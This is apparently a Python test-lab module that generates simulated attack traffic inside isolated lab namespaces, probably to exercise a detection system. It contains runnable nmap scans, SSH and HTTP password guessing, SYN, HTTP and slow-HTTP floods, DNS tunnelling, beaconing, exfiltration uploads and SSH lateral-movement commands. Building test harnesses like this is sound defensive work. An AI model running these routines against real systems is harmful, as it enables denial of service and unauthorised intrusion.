"""What attackers do, one function per kind of attack, each bounded in count and in time.

Every function returns when its work is done or its deadline has come; no packet leaves the lab's
namespaces, whose addresses are the only targets.
"""

from __future__ import annotations

import base64
import os
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Mapping
from contextlib import suppress

from tests.lab.arp import arp_spoof
from tests.lab.clients import WAIT_S, ask, browser, question, secure_shell, tls
from tests.lab.hosts import address
from tests.lab.job import Job

PORTS = tuple(range(1, 1025))
_BY_WORD = (
    *("-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1"),
    *("-o", "PubkeyAuthentication=no"),
)
_FAILURES = (OSError, ValueError, subprocess.SubprocessError)


def _tool(job: Job, *command: str) -> None:
    subprocess.run(
        command,
        check=False,
        timeout=max(job.left_s, 0.1),
        stdin=subprocess.DEVNULL,
        capture_output=True,
    )


def _nmap(job: Job, *options: str) -> None:
    _tool(job, "nmap", "--privileged", "-n", "-T4", *options)


def _ports(job: Job) -> str:
    """Return ports to scan: the well-known ones, then others."""
    known = [21, 22, 25, 53, 80, 110, 123, 139, 143, 161, 389, 443, 445, 502, 587, 631, 993]
    others = job.rng.sample([port for port in PORTS if port not in known], job.count)
    return ",".join(map(str, sorted([*known, *others][: job.count])))


def _discover(job: Job) -> None:
    targets = job.options["addresses"][: job.count]
    _nmap(job, "-sn", "--send-ip", "-PE", "-PS80,443", "--max-retries", "1", *targets)


def _scan_syn(job: Job) -> None:
    _nmap(job, "-sS", "-Pn", "--max-retries", "1", "-p", _ports(job), address(job.target))


def _scan_connect(job: Job) -> None:
    delay = f"{0.9 * job.left_s / job.count:.2f}s"
    words = ("--max-retries", "0", "--scan-delay", delay, "--max-scan-delay", delay)
    _nmap(job, "-sT", "-Pn", *words, "-p", _ports(job), address(job.target))


def _scan_udp(job: Job) -> None:
    delay = f"{0.8 * job.left_s / job.count:.2f}s"
    words = ("--max-retries", "0", "--scan-delay", delay, "--max-scan-delay", delay)
    _nmap(job, "-sU", "-Pn", *words, "-p", _ports(job), address(job.target))


def _ssh_guess(job: Job) -> None:
    for number in job.spread(0.5):
        word = f"guess{number}"
        with suppress(*_FAILURES):
            _tool(job, "sshpass", "-p", word, *secure_shell(job.target, "", job.folder, *_BY_WORD))


def _http_guess(job: Job) -> None:
    for number in job.spread(0.4):
        word = base64.b64encode(f"staff:guess{number}".encode()).decode()
        _get(job, "/private/", {"Authorization": f"Basic {word}"})


def _http_flood(job: Job) -> None:
    def flood(share: int) -> None:
        for _ in range(share):
            if job.left_s <= 0:
                return
            _get(job, "/api/items", {})

    _parallel(flood, [len(range(start, job.count, 6)) for start in range(6)])


def _get(job: Job, path: str, headers: Mapping[str, str]) -> None:
    web = browser(job.target, job.port, {})
    with suppress(*_FAILURES):
        web.request("GET", path, None, {"User-Agent": "browser/7", **headers})
        web.getresponse().read()
    web.close()


def _syn_flood(job: Job) -> None:
    words = ("-S", "-p", str(job.port), "-c", str(job.count), "-i", "u8000", "-q", "-n")
    _tool(job, "hping3", *words, address(job.target))


def _slow_http(job: Job) -> None:
    """Hold connections open with requests that come line by line and never end."""
    held: list[socket.socket] = []
    try:
        for _ in range(job.count):
            with suppress(*_FAILURES):
                plain = socket.create_connection((address(job.target), job.port), timeout=WAIT_S)
                line = tls().wrap_socket(plain)
                line.sendall(b"GET / HTTP/1.1\r\nHost: web.example\r\n")
                held.append(line)
            time.sleep(min(0.3, max(job.left_s, 0)))
        while job.left_s > 2:
            for held_line in held:
                with suppress(*_FAILURES):
                    held_line.sendall(b"X-a: %d\r\n" % job.rng.randrange(5_000))
            time.sleep(min(7.0, job.left_s))
    finally:
        for held_line in held:
            held_line.close()


def _tunnel(job: Job) -> None:
    """Carry bytes out in the names of questions, and commands back in the answers."""
    for number in job.spread(0.6):
        piece = base64.b32encode(job.rng.randbytes(job.rng.randint(20, 34))).decode().strip("=")
        name = f"{number:x}.{piece.lower()}.{job.options['domain']}"
        with suppress(*_FAILURES):
            ask(address(job.target), job.port, question(name, "TXT"))


def _beacon(job: Job) -> None:
    """Ask for orders, again and again, with jitter; at times there is one."""
    for number in job.spread(job.options["jitter"]):
        path = "/api/items" if number % 9 == 5 else "/done"
        _get(job, path, {"Cookie": job.rng.randbytes(12).hex()})


def _exfiltrate(job: Job) -> None:
    """Send stolen files where others share theirs, in pieces."""
    for _ in job.spread(0.5):
        web = browser(job.target, job.port, {})
        size = int(job.options["size"] * job.rng.uniform(0.6, 1.4))
        with suppress(*_FAILURES):
            web.request("POST", "/upload", os.urandom(size), {"User-Agent": "browser/7"})
            web.getresponse().read()
        web.close()


def _lateral(job: Job) -> None:
    """Log in with the administrator's own key, put a tool there, look around, take files."""
    for number in job.spread(0.5):
        take = f"head -c {int(job.rng.uniform(10_000, 40_000))} /dev/urandom"
        look = "id; cat /proc/cpuinfo"
        command = "cat >/dev/null" if number == 0 else take if number % 2 else look
        call = secure_shell(job.target, command, job.folder, "-o", "BatchMode=yes")
        with suppress(*_FAILURES):
            subprocess.run(
                call,
                check=False,
                timeout=max(job.left_s, 0.1),
                input=os.urandom(25_000),
                capture_output=True,
            )


def _parallel(work: Callable[[int], None], shares: list[int]) -> None:
    threads = [threading.Thread(target=work, args=(share,), daemon=True) for share in shares]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


HOSTILE: Mapping[str, Callable[[Job], None]] = {
    "discover": _discover,
    "scan_syn": _scan_syn,
    "scan_connect": _scan_connect,
    "scan_udp": _scan_udp,
    "ssh_guess": _ssh_guess,
    "http_guess": _http_guess,
    "http_flood": _http_flood,
    "syn_flood": _syn_flood,
    "slow_http": _slow_http,
    "tunnel": _tunnel,
    "beacon": _beacon,
    "exfiltrate": _exfiltrate,
    "lateral": _lateral,
    "arp_spoof": arp_spoof,
}
"""Kind of action -> the attack."""

RAW = frozenset({"ws3", "ws6", "attacker"})
"""The hosts whose attacks open raw sockets."""
